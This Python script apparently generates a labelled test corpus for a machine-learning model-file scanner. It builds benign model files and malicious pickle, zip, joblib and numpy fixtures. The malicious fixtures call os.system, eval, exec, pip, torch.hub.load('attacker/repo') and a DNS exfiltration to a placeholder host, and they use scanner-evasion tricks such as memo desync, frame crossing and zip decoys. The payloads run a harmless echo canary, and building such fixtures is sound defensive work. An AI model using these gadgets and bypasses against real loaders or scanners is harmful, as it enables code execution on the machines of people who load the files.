    # Tensor bytes are arbitrary: storages whose first bytes look like a zlib stream, an EXT1 opcode, a gzip header or a
    # PROTO opcode (1 in a few hundred float tensors does). PyTorch never decodes or unpickles archive/data/<key>.
    tricky = {"0": b"\x78\x01\x23\x3c" + pseudo_random("storage-0", 60), "1": b"\x82\x05" + pseudo_random("storage-1", 30),
              "2": b"\x1f\x8b\x08\x00" + pseudo_random("storage-2", 4)}
    emit("benign/torch_storages_look_like_streams.pt",
         torch_zip(data_pkl, {k: types.SimpleNamespace(raw=v) for k, v in tricky.items()}), "clean",
         "PyTorch zip whose tensor storages start with bytes that look like zlib, an EXT1 opcode and gzip: storage "
         "members are data, never decoded or unpickled by torch.load")
    emit("benign/torch_legacy.pt", torch_legacy(), "clean",
         "legacy (non-zip) PyTorch stream: magic 0x1950A86A20F9469CFC6C, protocol 1001, sys_info, state_dict pickle "
         "(6-tuple persistent ids), storage-key list, then raw storages (int64 numel + data) that are not pickle")

    # scikit-learn estimator
    emit("benign/sklearn_logreg_p1.pkl", pickle.dumps(logistic_regression(), protocol=1), "clean",
         "sklearn.linear_model._logistic.LogisticRegression via copyreg._reconstructor(cls, builtins.object, None) + "
         "BUILD state with numpy.core.multiarray._reconstruct/numpy.ndarray/numpy.dtype arrays (protocol 1, so written "
         "with Py2 names copy_reg/__builtin__); needs copyreg._reconstructor and builtins.object (as its argument) "
         "treated as safe")
    emit("benign/sklearn_logreg_p4.pkl", pickle.dumps(logistic_regression(), protocol=4), "clean",
         "same estimator at protocol 4: STACK_GLOBAL + NEWOBJ (copyreg.__newobj__ path of __reduce_ex__) + BUILD")

    # joblib
    jl = joblib_dump(logistic_regression())
    emit("benign/sklearn_logreg.joblib", jl, "clean",
         "joblib.dump of the estimator: each array is joblib.numpy_pickle.NumpyArrayWrapper (state subclass/shape/"
         "order/dtype/allow_mmap/numpy_array_alignment_bytes) + BUILD, then 1 padding-length byte + 0xFF padding to "
         "16-byte alignment + raw array bytes inside the stream")
    for tag, fn, desc in JOBLIB_COMPRESSORS:
        emit("benign/sklearn_logreg_%s.joblib" % tag, fn(jl), "clean", "joblib compress=%s (%s) of the NumpyArrayWrapper estimator pickle" % (tag, desc))

    # numpy
    f32 = struct.pack("<12f", *[i * 0.5 for i in range(12)])
    emit("benign/float32.npy", npy("<f4", (3, 4), f32), "clean",
         ".npy v1.0: '<f4' shape (3, 4), header dict padded with spaces to 64 bytes")
    emit("benign/int64_fortran_v2.npy", npy("<i8", (2, 2), struct.pack("<4q", 1, 2, 3, 4), fortran=True, version=2),
         "clean", ".npy v2.0 (4-byte header length): '<i8' shape (2, 2), fortran_order True")
    emit("benign/arrays.npz", zip_bytes([
        {"name": "weights.npy", "data": npy("<f4", (3, 4), f32)},
        {"name": "bias.npy", "data": npy("<f8", (2,), struct.pack("<2d", 0.5, -0.5)), "method": 8},
    ]), "clean", ".npz: zip of two numeric .npy members (one stored, one deflated)")

    # safetensors
    buf_w = struct.pack("<6f", *[0.1 * i for i in range(6)])
    buf_ids = struct.pack("<4q", 1, 2, 3, -4)
    buf_bf16 = b"\x80\x3f\x00\x40\x40\x40\x80\x40"  # 1, 2, 3, 4 in bfloat16
    header = collections.OrderedDict([
        ("__metadata__", {"format": "pt", "source": "mlbuildguard corpus"}),
        ("emb", {"dtype": "BF16", "shape": [2, 2], "data_offsets": [56, 64]}),
        ("weight", {"dtype": "F32", "shape": [2, 3], "data_offsets": [0, 24]}),
        ("ids", {"dtype": "I64", "shape": [4], "data_offsets": [24, 56]}),
    ])
    emit("benign/model.safetensors", safetensors(header, buf_w + buf_ids + buf_bf16), "clean",
         "safetensors: F32 [2,3], I64 [4], BF16 [2,2] (keys not in offset order), __metadata__ string map, header "
         "padded with spaces to 8-byte alignment")
    emit("benign/empty_and_scalar.safetensors", safetensors(collections.OrderedDict([
        ("empty", {"dtype": "F32", "shape": [0, 4], "data_offsets": [0, 0]}),
        ("scalar", {"dtype": "F64", "shape": [], "data_offsets": [0, 8]}),
    ]), struct.pack("<d", 3.5)), "clean", "safetensors: empty tensor (shape [0,4], offsets [0,0]) and rank-0 scalar F64")
    emit("benign/metadata_only.safetensors", safetensors({"__metadata__": {"note": "no tensors"}}, b""), "clean",
         "safetensors with only __metadata__ and an empty byte buffer")

    # GGUF
    kvs = [gkv_str("general.architecture", "llama"), gkv_str("general.name", "mlbuildguard-corpus"),
           gkv_u32("general.alignment", 32), gkv_i32_array("tokenizer.ggml.token_type", [1, 3, 3])]
    tensors = [gtensor("token_embd.weight", [4, 2], 0, 0), gtensor("output_norm.weight", [4], 0, 32)]
    data = struct.pack("<8f", *range(8)) + struct.pack("<4f", 1, 1, 1, 1) + b"\x00" * 16
    emit("benign/tiny.gguf", gguf(kvs, tensors, data), "clean",
         "GGUF v3: 4 KVs (strings, u32 general.alignment=32, i32 array), 2 F32 tensors at aligned offsets 0 and 32")

    # ONNX
    emit("benign/onnx_inline.onnx", onnx_model(raw=FLOATS16), "clean",
         "ONNX ModelProto (ir_version 1, opset 13) with a MatMul node and an inline raw_data initializer")
    emit("benign/onnx_external/model.onnx", onnx_model(location="weights.bin", offset=0, length=64), "clean",
         "ONNX with external data: location 'weights.bin' in the same folder, offset 0, length 64 (file is 64 bytes)")
    support("benign/onnx_external/weights.bin", FLOATS16)
    record_folder("benign/onnx_external", "clean",
                  "folder scan: model.onnx + weights.bin, its external data (64 raw float32 bytes, not a model format); "
                  "an ONNX model stored with external data must not be reported")

    # Keras v3
    emit("benign/dense.keras", keras_zip(keras_model([dense("dense", 8), dense("dense_1", 1, "sigmoid")])), "clean",
         "Keras v3 .keras zip: config.json (Sequential, InputLayer + 2 Dense, modules keras/keras.layers/"
         "keras.initializers), metadata.json, model.weights.h5 placeholder (HDF5 signature + superblock only)")


def gen_pickle_malicious():
    d = "pickle-malicious/"

    def m(name, data, why, expect=MLG301):
        emit(d + name, data, expect, why)

    # Direct process / shell execution
    m("os_system_p0.pkl", PAYLOAD_P0, "os.system via GLOBAL/MARK/STRING/TUPLE/REDUCE, protocol 0 (Sour Pickles; "
      "picklescan malicious1_v0)")
    m("os_system_p2.pkl", PAYLOAD_P2, "os.system, protocol 2 GLOBAL + BINUNICODE (picklescan malicious1_v3-style)")
    m("os_system_p4.pkl", PAYLOAD_P4, "os.system, protocol 4 STACK_GLOBAL inside a FRAME (picklescan malicious1_v4)")
    m("posix_system_p2.pkl", p2(CALL(GLOBAL("posix", "system"), BU(CANARY))),
      "posix.system at protocol 2, the name os.system pickles to on Linux (modelscan unsafe_zip_pytorch.pt; ModelAudit "
      "posix_alias_attack.pkl)")
    m("nt_system_p4.pkl", p4(CALL(SG("nt", "system"), U(CANARY))),
      "nt.system, the Windows alias of os.system (ModelAudit nt_alias_attack.pkl)")
    m("subprocess_popen.pkl", p4(CALL(SG("subprocess", "Popen"), LST(U("echo"), U("mlbuildguard-corpus-canary")))),
      "subprocess.Popen(['echo', ...]) (picklescan subprocess gadget fixture; research 2.3 process spawn)")
    m("pty_spawn.pkl", p4(CALL(SG("pty", "spawn"), LST(U("/bin/echo"), U("mlbuildguard-corpus-canary")))),
      "pty.spawn (CVE-2025-71322)")
    m("asyncio_unix_events_submodule.pkl", p4(
        SG("asyncio.unix_events", "_UnixSubprocessTransport._start")
        + MARK + SG("asyncio.unix_events", "_UnixSubprocessTransport") + EMPTY_TUPLE + NEWOBJ
        + U(CANARY) + NEWTRUE + NONE + NONE + NONE + INT(0) + TUPLE + REDUCE),
      "asyncio.unix_events._UnixSubprocessTransport._start: submodule of blocklisted asyncio + dotted name "
      "(CVE-2025-10157 / GHSA-f7qq-56ww-84cr)")
    m("uuid_get_command_stdout.pkl", p4(CALL(SG("uuid", "_get_command_stdout"), U("echo"), U("mlbuildguard-corpus-canary"))),
      "uuid._get_command_stdout runs a process (research 2.3 process spawn; ModelAudit ALWAYS_DANGEROUS)")
    m("multiprocessing_spawnv_passfds.pkl", p4(CALL(SG("multiprocessing.util", "spawnv_passfds"), U("/bin/echo"),
                                                    LST(U("/bin/echo"), U("mlbuildguard-corpus-canary")), EMPTY_TUPLE)),
      "multiprocessing.util.spawnv_passfds (research 2.3 process spawn)")
    m("winapi_createprocess.pkl", p4(CALL(SG("_winapi", "CreateProcess"), NONE, U("cmd /c " + CANARY), NONE, NONE,
                                          INT(0), INT(0), NONE, NONE, NONE)),
      "_winapi.CreateProcess (huntr PoC; research 2.3 process spawn; absent from picklescan's list)")

    # Code execution
    m("builtins_eval.pkl", p4(CALL(SG("builtins", "eval"), U("__import__('os').system('%s')" % CANARY))),
      "builtins.eval of a code string (picklescan/modelscan unsafe list builtins.eval)")
    m("builtins_exec.pkl", p2(CALL(GLOBAL("builtins", "exec"), BU("import os; os.system('%s')" % CANARY))),
      "builtins.exec of a code string (fickling BadCalls)")
    m("builtins_import.pkl", p4(CALL(SG("builtins", "__import__"), U("os"))),
      "builtins.__import__('os'): import trampoline, only 'suspicious' in picklescan (research 2.3)")
    m("getattr_chain.pkl", p4(CALL(
        CALL(SG("builtins", "getattr"), CALL(SG("builtins", "__import__"), U("os")), U("system")), U(CANARY))),
      "getattr(__import__('os'), 'system')('echo ...') chain (research 2.3 builtins.__import__/getattr)")
    m("builtins_dict_itemgetter.pkl", p4(CALL(
        CALL(CALL(SG("operator", "itemgetter"), U("eval")), SG("builtins", "__dict__")),
        U("__import__('os').system('%s')" % CANARY))),
      "operator.itemgetter('eval')(builtins.__dict__) then call: eval reached without naming it (huntr PoC, research 2.3)")
    m("runpy_run_code.pkl", p4(CALL(SG("runpy", "_run_code"), U("import os; os.system('%s')" % CANARY), EMPTY_DICT)),
      "runpy._run_code (fickling test_bypasses runpy; picklescan runpy fixture)")
    m("importlib_import_module.pkl", p4(CALL(SG("importlib", "import_module"), U("os"))),
      "importlib.import_module (fickling test_bypasses importlib; picklescan PR #74 unmerged)")
    m("pkgutil_resolve_name.pkl", p4(CALL(CALL(SG("pkgutil", "resolve_name"), U("os:system")), U(CANARY))),
      "pkgutil.resolve_name('os:system')(...) universal bypass (CVE-2026-3490 / GHSA-vvpj-8cmc-gx39)")
    m("marshal_functiontype.pkl", p4(CALL(
        CALL(SG("types", "FunctionType"), CALL(SG("marshal", "loads"), BYTES(MARSHAL_MODULE_CODE)), EMPTY_DICT))),
      "types.FunctionType(marshal.loads(<code>), {})() (fickling test_bypasses marshal+types; huntr PoC)")
    m("newobj_ex_functiontype.pkl", p4(
        SG("types", "FunctionType") + TUP(CALL(SG("marshal", "loads"), BYTES(MARSHAL_MODULE_CODE)), EMPTY_DICT)
        + EMPTY_DICT + NEWOBJ_EX + EMPTY_TUPLE + REDUCE),
      "NEWOBJ_EX(types.FunctionType, (marshal code, {}), {}) then REDUCE: call site through NEWOBJ_EX (research 2.2 "
      "report every call site incl. NEWOBJ_EX)")
    m("code_interactiveinterpreter.pkl", p4(CALL(
        SG("code", "InteractiveInterpreter.runsource"), CALL(SG("code", "InteractiveInterpreter")),
        U("import os; os.system('%s')" % CANARY))),
      "code.InteractiveInterpreter.runsource via dotted name (picklescan list code.InteractiveInterpreter.runcode)")
    m("cprofile_run.pkl", p4(CALL(SG("cProfile", "run"), U("import os; os.system('%s')" % CANARY))),
      "cProfile.run (CVE-2026-53873)")
    m("timeit_timeit.pkl", p4(CALL(SG("timeit", "timeit"), U("import os; os.system('%s')" % CANARY), U("pass"),
                                   SG("time", "perf_counter"), INT(1))),
      "timeit.timeit(stmt, 'pass', time.perf_counter, 1) (CVE-2025-71351)")
    m("idlelib_debugobj_settext.pkl", p4(CALL(
        SG("idlelib.debugobj", "ObjectTreeItem.SetText"),
        CALL(SG("idlelib.debugobj", "ObjectTreeItem"), U("x"), NONE, NONE),
        U("__import__('os').system('%s')" % CANARY))),
      "idlelib.debugobj.ObjectTreeItem.SetText evals its text (CVE-2025-71354)")
    m("numpy_f2py_myeval.pkl", p4(CALL(SG("numpy.f2py.crackfortran", "myeval"),
                                       U("__import__('os').system('%s')" % CANARY))),
      "numpy.f2py.crackfortran.myeval evals its argument (CVE-2025-71365)")
    m("ctypes_cdll.pkl", p4(CALL(SG("ctypes", "CDLL"), U("libc.so.6"))),
      "ctypes.CDLL loads native code (fickling test_bypasses ctypes; research 2.3)")
    m("pip_main.pkl", p4(CALL(SG("pip", "main"), LST(U("install"), U("mlbuildguard-corpus-canary.invalid")))),
      "pip.main(['install', ...]) (CVE-2025-1716)")

    # Indirection gadgets
    m("operator_methodcaller.pkl", p4(CALL(
        CALL(SG("operator", "methodcaller"), U("system"), U(CANARY)), CALL(SG("builtins", "__import__"), U("os")))),
      "operator.methodcaller('system', cmd)(__import__('os')) (CVE-2025-71373; fickling _operator.methodcaller)")
    m("functools_partial_torch_load.pkl", p2(
        GLOBAL("functools", "partial") + MARK + GLOBAL("torch.serialization", "load") + TUPLE + REDUCE
        + MARK + GLOBAL("torch.serialization", "load") + MARK + BU("payload.pt") + TUPLE
        + EMPTY_DICT + BU("weights_only") + NEWFALSE + SETITEM + NONE + TUPLE + BUILD
        + EMPTY_TUPLE + REDUCE),
      "functools.partial(torch.serialization.load, 'payload.pt', weights_only=False)() built with BUILD state, as "
      "partial.__reduce__ writes it (picklescan fixture torch.load via partial; research 2.3)")
    m("torch_hub_load.pkl", p2(CALL(GLOBAL("torch.hub", "load"), BU("attacker/repo"), BU("model"))),
      "torch.hub.load downloads and runs code (ModelAudit ALWAYS_DANGEROUS; fickling benchmark DANGEROUS_PRIMITIVE)")
    m("torch_load_nested.pkl", p2(CALL(GLOBAL("torch", "load"), BU("payload.pt"))),
      "torch.load: nested pickle loader (fickling UnsafeImportsML; ModelAudit torch.load)")
    m("torch_inductor_compile_file.pkl", p4(CALL(
        SG("torch._inductor.codecache", "compile_file"), LST(U("x.c")), U("x.so"),
        LST(U("sh"), U("-c"), U(CANARY)))),
      "torch._inductor.codecache.compile_file runs a compiler command (picklescan inductor fixture)")

    # Files / network
    m("socket_create_connection.pkl", p4(CALL(SG("socket", "create_connection"), TUP(U("127.0.0.1"), INT(9)))),
      "socket.create_connection (picklescan socket fixture malicious6)")
    m("ssl_linecache_exfil.pkl", p4(
        CALL(SG("linecache", "getline"), U("/etc/hostname"), INT(1)) + POP
        + CALL(SG("ssl", "get_server_certificate"), TUP(U("exfil.mlbuildguard-corpus.invalid"), INT(443)))),
      "linecache.getline + ssl.get_server_certificate DNS exfiltration (CVE-2025-46417 / GHSA-93mv-x874-956g)")
    m("webbrowser_open.pkl", p4(CALL(SG("webbrowser", "open"), U("http://127.0.0.1:9/mlbuildguard-corpus"))),
      "webbrowser.open (research 2.3 process spawn/network)")
    m("shutil_rmtree.pkl", p4(CALL(SG("shutil", "rmtree"), U("/nonexistent/mlbuildguard-corpus"))),
      "shutil.rmtree (picklescan unsafe list shutil.*; ModelAudit shutil.rmtree)")
    m("io_fileio.pkl", p4(CALL(SG("_io", "FileIO"), U("/etc/hostname"))),
      "_io.FileIO opens files (picklescan fixture io_FileIO; fickling UnsafeImportsML)")
    m("logging_filehandler.pkl", p4(CALL(SG("logging", "FileHandler"), U("/nonexistent/mlbuildguard-corpus.log"))),
      "logging.FileHandler creates files (CVE-2026-56304; picklescan fixture logging_FileHandler)")

    # Name-resolution tricks
    m("pathlib_dotted_os_system.pkl", p4(CALL(GLOBAL("pathlib", "os.system"), U(CANARY))),
      "GLOBAL pathlib 'os.system' at protocol 4: dotted name resolves pathlib.os.system (GHSA-5j3x-jp52-966f)")
    m("builtins_eval_call_dotted.pkl", p4(CALL(GLOBAL("builtins", "eval.__call__"),
                                               U("__import__('os').system('%s')" % CANARY))),
      "GLOBAL builtins 'eval.__call__' at protocol 4 (modelscan PR #76; research 2.6 probe)")
    m("py2_builtin_eval_p2.pkl", p2(CALL(GLOBAL("__builtin__", "eval"), BU("__import__('os').system('%s')" % CANARY))),
      "Py2 alias __builtin__.eval at protocol 2 -> builtins.eval via _compat_pickle (research 2.2)")
    m("py2_commands_getoutput_p2.pkl", p2(CALL(GLOBAL("commands", "getoutput"), BU(CANARY))),
      "Py2 alias commands.getoutput at protocol 2 -> subprocess.getoutput via _compat_pickle (research 2.2)")
    m("py2_posix_system_p2.pkl", p2(CALL(GLOBAL("posix", "system"), BINSTRING(CANARY))),
      "posix.system at protocol 2 with a BINSTRING argument (Py2-style string opcode; research 2.2)")
    m("memo_desync_binput.pkl", p4(
        U("os") + U("torch") + POP + BINPUT(0) + POP + BINGET(0) + U("system") + STACK_GLOBAL
        + U(CANARY) + TUPLE1 + REDUCE),
      "memo desync: 'os' 'torch' POP BINPUT 0 POP BINGET 0 'system' STACK_GLOBAL -> os.system (picklescan issue "
      "#14/#22, HF memo-desync PoCs, ShadowPickle; research 2.2/2.6 picklescan reports ('None','system'))")
    m("memo_desync_memoize.pkl", p4(
        U("os") + U("torch") + POP + MEMOIZE + POP + BINGET(0) + U("system") + STACK_GLOBAL
        + U(CANARY) + TUPLE1 + REDUCE),
      "memo desync with MEMOIZE: 'os' 'torch' POP MEMOIZE POP BINGET 0 'system' STACK_GLOBAL (research 2.6 probe)")
    m("stack_global_operands_first_no_proto.pkl",
      STRING("os") + STRING("system") + STACK_GLOBAL + STRING(CANARY) + TUPLE1 + REDUCE + STOP,
      "STACK_GLOBAL operand at opcode index 0, no PROTO, STRING operands (CVE-2025-71325 / GHSA-9gvj-pp9x-gcfr; "
      "picklescan malicious23)")
    m("stack_global_binstring_operands.pkl", p4(
        BINSTRING("subprocess") + SHORT_BINSTRING("getoutput") + STACK_GLOBAL + U(CANARY) + TUPLE1 + REDUCE),
      "STACK_GLOBAL whose operands are BINSTRING/SHORT_BINSTRING (research 2.2: all 7 string opcodes push text)")
    m("stack_global_unresolvable_rot13.pkl", p4(
        CALL(SG("_codecs", "encode"), U("bf"), U("rot13")) + U("system") + STACK_GLOBAL + U(CANARY) + TUPLE1 + REDUCE),
      "unresolvable import: STACK_GLOBAL module operand is _codecs.encode('bf','rot13') (='os'), not a string "
      "constant -> unknown global (picklescan 'unknown' rule; research 2.2)")
    m("ext1_extension_code.pkl", p2(EXT1(0x2A) + MARK + BU(CANARY) + TUPLE + REDUCE),
      "EXT1 42: global from the copyreg extension registry, unknowable statically -> treated as unknown import and "
      "called (research 6.2 EXT1/2/4)")

    # Call-site shapes
    m("obj_pop.pkl", p2(MARK + GLOBAL("os", "system") + BU(CANARY) + OBJ + POP + EMPTY_DICT),
      "OBJ call whose result is discarded by POP, then a benign {} (fickling GHSA-mxhj-88fx-4pcv)")
    m("inst_os_system_p0.pkl", MARK + STRING(CANARY) + INST("os", "system") + STOP,
      "INST opcode (protocol 0) calling os.system (picklescan malicious10)")
    m("build_on_module_rewire.pkl", p4(
        SG("torch", "_utils") + EMPTY_DICT + U("_rebuild_tensor_v2") + SG("builtins", "exec") + SETITEM + BUILD + POP
        + CALL(SG("torch._utils", "_rebuild_tensor_v2"), U("import os; os.system('%s')" % CANARY))),
      "BUILD on the imported module torch._utils sets _rebuild_tensor_v2 = exec, then the allowlisted name is called "
      "(picklescan sys_module_override_sploit; modelscan issue #85)")
    m("build_on_module_only.pkl", p4(
        SG("torch", "_utils") + EMPTY_DICT + U("_rebuild_tensor_v2") + SG("collections", "OrderedDict") + SETITEM
        + BUILD + POP + EMPTY_DICT),
      "only signal: BUILD on the imported module torch._utils rewiring _rebuild_tensor_v2 (value is the allowlisted "
      "collections.OrderedDict) -> attribute rewrite of code (research 2.2 BUILD on module objects)")

    # Stream-structure tricks
    m("nullifai_truncated_after_reduce.pkl", PROTO(2) + CALL(GLOBAL("os", "system"), BU(CANARY)),
      "payload then end of data: pickle cut right after REDUCE, no STOP; loads run the payload then fail (nullifAI, "
      "ReversingLabs Feb 2025; EOP arXiv 2508.19774)", [MLG301, MLG303])
    m("payload_then_invalid_opcode.pkl", PROTO(2) + CALL(GLOBAL("os", "system"), BU(CANARY)) + b"\xff\xfe" + STOP,
      "payload, then invalid opcode 0xFF: VM executes then raises (EOP, arXiv 2508.19774; picklescan "
      "malicious-invalid-bytes)", [MLG301, MLG303])
    m("second_pickle_payload.pkl", pickle.dumps({"weights": [0.5, 1.5]}, protocol=4) + PAYLOAD_P2,
      "two pickles back to back, payload only in the second (ModelAudit multiple_stream_attack.pkl; fickling "
      "StackedPickle)")
    hidden = U("os") + U("system") + STACK_GLOBAL + U(CANARY) + TUPLE1 + REDUCE + STOP
    visible = b"benign-looking-"
    body = b"C" + bytes([len(visible) + len(hidden)]) + visible  # SHORT_BINBYTES running past the frame end
    frame_crossing = PROTO(4) + FRAME(len(body)) + body + hidden + STOP
    m("frame_boundary_crossing.pkl", frame_crossing,
      "FRAME ends inside a SHORT_BINBYTES argument whose declared length swallows STACK_GLOBAL os.system ...: linear "
      "readers see one bytes value, a reader that stops the argument at the frame end runs os.system "
      "(python/cpython#154848; fickling 99464b5). Must be an error; scanners modelling that reader may add MLG301",
      MLG303)
    inner = U("os") + U("system") + STACK_GLOBAL + U(CANARY) + TUPLE1 + REDUCE + STOP
    outer_body = EMPTY_DICT + POP + FRAME(len(inner)) + inner
    m("frame_reopened.pkl", PROTO(4) + FRAME(len(outer_body)) + outer_body,
      "a FRAME opened inside a frame (pure-Python unpickler raises, C unpickler continues) around os.system "
      "(fickling 99464b5 FrameReopened)", [MLG301, MLG303])


def gen_container_malicious():
    d = "container-malicious/"
    data_pkl, storages = torch_dump(state_dict())

    def z(name, entries, why, expect=MLG301):
        emit(d + name, zip_bytes(entries), expect, why)

    def torch_entries(payload=PAYLOAD_P2, **kw):
        e = {"name": "archive/data.pkl", "data": payload, "align64": True}
        e.update(kw)
        return [e, {"name": "archive/byteorder", "data": b"little"},
                {"name": "archive/data/0", "data": storages["0"].raw}, {"name": "archive/version", "data": b"3\n"}]

    z("torch_zip_os_system.pt", torch_entries(), "PyTorch zip whose archive/data.pkl calls os.system "
      "(modelscan unsafe_zip_pytorch.pt; picklescan malicious1.zip)")

    # A gap between the central directory and the end record. miniz (PyTorch) reads the directory at its written offset;
    # a reader that takes the gap for prepended data shifts every offset and reads a decoy directory placed just before
    # the end record, pointing at a benign member. Both readings name archive/data.pkl.
    def single(data):
        raw = zip_bytes([{"name": "archive/data.pkl", "data": data}])
        size, offset = struct.unpack_from("<II", raw, len(raw) - 22 + 12)
        return raw[:offset], raw[offset:offset + size]
    evil_local, evil_cd = single(PAYLOAD_P2)
    decoy_local, decoy_cd = single(pickle.dumps({"weights": [0.5]}, protocol=2))
    assert len(evil_cd) == len(decoy_cd) and len(evil_local) >= len(decoy_local)
    shift = len(decoy_local) + len(decoy_cd)
    decoy_cd = decoy_cd[:42] + struct.pack("<I", len(evil_local) + len(evil_cd) - shift) + decoy_cd[46:]
    gap = (evil_local + evil_cd + decoy_local + decoy_cd
           + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(evil_cd), len(evil_local), 0))
    understated = bytearray(zip_bytes([{"name": "weights/version", "data": b"3\n"},
                                       {"name": "weights/data.pkl", "data": PAYLOAD_P2}]))
    struct.pack_into("<HH", understated, len(understated) - 22 + 8, 1, 1)
    emit(d + "zip_count_understated.zip", bytes(understated), MLG301,
         "the end record counts one entry, the directory holds two: Python's zipfile ignores the count and reads the "
         "second, an os.system pickle")
    emit(d + "torch_zip_directory_gap_decoy.pt", gap, MLG301,
         "central directory at its written offset lists an os.system data.pkl; a decoy directory in the gap before the "
         "end record lists a benign one (a reader that shifts offsets by the gap sees only the decoy)")
    z("zip_pickle_named_data_bin.pt", [{"name": "archive/data.bin", "data": PAYLOAD_P2},
                                        {"name": "archive/version", "data": b"3\n"}],
      "malicious pickle member with a non-pickle name archive/data.bin: sniff members by content (CVE-2025-1889 / "
      "GHSA-769v-p64c-89pr)")
    z("zip_protocol0_member.zip", [{"name": "model/config.txt", "data": PAYLOAD_P0, "method": 8}],
      "protocol-0 pickle (no PROTO byte) in a member named config.txt (research 2.1: also sniff proto 0/1)")
    z("zip_name_mismatch.pt", torch_entries(local_name="archive/notes.txt"),
      "local header name 'archive/notes.txt' differs from central directory 'archive/data.pkl'; PyTorch/miniz load "
      "it (CVE-2025-1944; picklescan malicious1_central_directory.zip)")
    for flag in (0x1, 0x20, 0x40):
        z("zip_flag_0x%02x.pt" % flag, torch_entries(flags=flag),
          "general-purpose flag 0x%02x set on a plain stored data.pkl; zipfile refuses, torch ignores (CVE-2025-1945; "
          "picklescan malicious1_0x%x.zip)" % (flag, flag))
    z("zip_bad_crc.pt", torch_entries(crc=0xDEADBEEF),
      "wrong CRC-32 on data.pkl; zipfile raises BadZipFile, torch ignores CRC (CVE-2025-10156 / GHSA-mjqp-26hc-grxg; "
      "picklescan malicious1_crc.zip)")
    inner = zip_bytes(torch_entries())
    z("zip_nested.zip", [{"name": "checkpoint/model.pt", "data": inner}, {"name": "README.txt", "data": b"model\n"}],
      "zip inside zip, the inner PyTorch zip's data.pkl calls os.system (modelscan NestedZipError / issue #106; "
      "research 2.1 nested archives)")
    z("nullifai_torch_zip.pt", torch_entries(
        payload=PROTO(2) + CALL(GLOBAL("os", "system"), BU(CANARY)) + data_pkl[2:len(data_pkl) // 2]),
      "PyTorch zip whose data.pkl runs os.system first and is then broken (truncated state_dict) (nullifAI, "
      "ReversingLabs Feb 2025; 7z variant not producible with the stdlib)", [MLG301, MLG303])

    emit(d + "plain_pickle_named.bin", PAYLOAD_P2, MLG301,
         "raw pickle named .bin (no zip, no PyTorch magic): must fall back to pickle scanning (CVE-2025-10155 / "
         "GHSA-jgw4-cr84-mqxg)")
    emit(d + "torch_legacy_magic_eval.pt",
         torch_legacy(magic_pickle=p2(CALL(GLOBAL("builtins", "eval"), BU("0x1950a86a20f9469cfc6c")))), MLG301,
         "legacy PyTorch stream whose magic number is produced by eval('0x1950...') (GHSA-97f8-7cmv-76j2; picklescan "
         "pytorch_magic_bypass.pt)")
    emit(d + "torch_legacy_payload_in_data.pt", torch_legacy(obj_pickle=PAYLOAD_P2), MLG301,
         "legacy PyTorch stream: valid magic/protocol/sys_info, os.system in the 4th (object) pickle (modelscan "
         "scans only the first pickle; research 1.2)")
    emit(d + "torch_legacy_tar.tar", tar_bytes([
        ("sys_info", pickle.dumps(SYS_INFO, protocol=2)),
        ("pickle", PAYLOAD_P2),
        ("storages", pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)),
        ("tensors", pickle.dumps(0, protocol=2)),
    ]), MLG301, "legacy PyTorch 0.1.1 tar (sys_info/pickle/storages/tensors members, fixed mtime 0) whose 'pickle' "
                "member calls os.system; picklescan: tar 'TODO' (research 2.1 legacy tar)")

    benign_zip_offset = len(PAYLOAD_P2)
    appended = zip_bytes([{"name": "model/README.txt", "data": b"a benign zip\n"},
                          {"name": "model/data.pkl", "data": pickle.dumps({"w": [1.0]}, protocol=2)}],
                         base_offset=benign_zip_offset)
    emit(d + "polyglot_pickle_then_zip.pkl", PAYLOAD_P2 + appended, MLG301,
         "polyglot: os.system pickle at offset 0 + a benign zip appended (absolute offsets); picklescan routes it to "
         "the zip and never scans the prefix (fickling polyglot.py; research 2.6 probe)")

    # joblib
    for tag, fn, desc in JOBLIB_COMPRESSORS:
        emit(d + "joblib_%s_os_system.joblib" % tag, fn(PAYLOAD_P4), MLG301,
             "joblib %s-compressed (%s) os.system pickle; picklescan reports 0 issues, no error (research 2.1/2.6 "
             "compressed joblib)" % (tag, desc))
    emit(d + "joblib_zf_legacy_os_system.joblib", joblib_zf(PAYLOAD_P2), MLG301,
         "joblib < 0.10 'ZF' + hex length + zlib format holding an os.system pickle (research 2.1 joblib legacy ZF)")
    obj_array = ndarray(OBJ8, (2,), payload=PAYLOAD_P2)
    emit(d + "joblib_object_array_nested.joblib",
         joblib_dump({"feature_names": obj_array, "coef": ndarray(F8, (3,), [1.0, 2.0, 3.0], "d")}), MLG301,
         "joblib NumpyArrayWrapper with object dtype: the nested protocol-2 pickle written after the wrapper's BUILD "
         "calls os.system; a numeric wrapper follows (research 2.1 joblib NumpyArrayWrapper)")

    # numpy
    emit(d + "object_array_os_system.npy", npy("|O", (1,), PAYLOAD_P2.replace(b"\x80\x02", b"\x80\x03", 1)), MLG301,
         ".npy with object dtype '|O': the pickle after the header calls os.system (picklescan dns_exfiltration.npy; "
         "research 1.1 scan_numpy)")
    emit(d + "object_array_in.npz", zip_bytes([
        {"name": "weights.npy", "data": npy("<f4", (2,), struct.pack("<2f", 1, 2))},
        {"name": "names.npy", "data": npy("|O", (1,), PAYLOAD_P2), "method": 8},
    ]), MLG301, ".npz whose names.npy member is an object array with an os.system pickle (research 1.1 npz as zip)")


def gen_unknown_import():
    d = "unknown-import/"
    emit(d + "mylib_model.pkl", p2(GLOBAL("mylib", "Model") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + BU("layers")
                                   + INT(3) + SETITEM + BUILD), MLG302,
         "mylib.Model via NEWOBJ + BUILD: import not on the allowlist and not known-dangerous")
    obj = MyClass()
    w = Storage("0", FloatStorage, "f", [0.5, -0.25, 1.0, 2.0])
    obj.__dict__.update({"training": True, "_parameters": collections.OrderedDict([("weight", Tensor(w, (2, 2)))]),
                         "_buffers": collections.OrderedDict(), "_modules": collections.OrderedDict()})
    data_pkl, storages = torch_dump(obj)
    emit(d + "torch_full_model_mypackage.pt", torch_zip(data_pkl, storages), MLG302,
         "PyTorch zip of a whole model object (torch.save(model)): mypackage.MyClass + allowlisted tensor rebuilds; "
         "fails weights_only, not known-dangerous")
    emit(d + "custom_transformer_p4.pkl", p4(SG("mycompany.features", "CustomScaler") + EMPTY_TUPLE + NEWOBJ
                                              + EMPTY_DICT + U("scale") + b"G" + struct.pack(">d", 2.0) + SETITEM + BUILD),
         MLG302, "mycompany.features.CustomScaler (STACK_GLOBAL, protocol 4): unknown, not dangerous")


def gen_invalid_header():
    d = "invalid-header/"

